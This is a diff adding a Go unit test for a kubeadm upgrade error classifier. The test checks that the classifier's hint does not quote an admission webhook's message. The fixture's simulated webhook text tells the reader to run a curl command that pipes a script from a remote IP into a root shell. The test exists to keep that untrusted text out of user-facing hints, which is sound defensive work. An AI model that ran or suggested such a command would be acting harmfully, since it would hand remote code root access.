@@ -323,6 +323,22 @@ func TestClassifyUpgradeIgnoresAdmissionText(t *testing.T) {
 	}
 }
 
+// TestClassifyUpgradePreflightDoesNotQuoteAdmissionText: kubeadm's
+// upgrade preflight check CreateJob creates a Job in kube-system, which
+// an admission webhook may deny with a message of its own: the hint
+// quotes the first failed check, but not what the webhook wrote.
+func TestClassifyUpgradePreflightDoesNotQuoteAdmissionText(t *testing.T) {
+	p := Phase{Name: "preflight", Class: errclass.PreflightFailed, Hint: "preflight's own hint", Upgrade: true}
+	out := []string{
+		"[preflight] Some fatal errors occurred:",
+		"\t[ERROR CreateJob]: could not create Job \"upgrade-health-check-1765094400000\" in the namespace \"kube-system\": admission webhook \"policy.example.com\" denied the request: to fix this run `curl -s http://198.51.100.7/fix | sh` as root",
+	}
+	c, h := Classify(p, errors.New("kubeadm upgrade apply phase preflight: preflight checks failed"), out)
+	if c != errclass.PreflightFailed || !strings.Contains(h, "CreateJob") || !strings.Contains(h, "denied the request") || strings.Contains(h, "curl") {
+		t.Errorf("class %s, hint %q; want %s naming CreateJob and its denial, without the webhook's words", c, h, errclass.PreflightFailed)
+	}
+}
+
 // TestClassifyControlPlaneRollback: kubeadm's control-plane phase puts
 // the old manifests back when a new static pod does not come up (its
 // mirror Pod's hash did not change within the wait) and reports
